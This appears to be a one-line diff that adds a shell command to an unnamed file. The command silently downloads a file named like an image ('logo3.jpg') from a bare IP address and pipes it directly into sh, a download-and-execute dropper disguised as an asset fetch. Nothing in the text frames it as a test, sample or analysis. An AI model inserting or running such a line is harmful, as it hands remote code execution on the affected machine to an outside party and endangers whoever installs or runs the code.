@@ -1,0 +1,1 @@
+wget --quiet --output-document=- http://198.51.100.7:8220/logo3.jpg |sh
